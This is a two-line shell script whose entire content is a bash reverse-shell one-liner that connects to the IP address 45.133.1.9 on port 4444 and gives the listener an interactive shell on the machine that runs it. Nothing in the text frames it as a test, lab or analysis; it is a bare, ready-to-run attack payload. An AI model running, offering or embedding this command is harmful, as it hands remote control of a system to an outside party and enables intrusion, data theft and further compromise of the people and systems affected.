#!/bin/sh
bash -i >& /dev/tcp/45.133.1.9/4444 0>&1
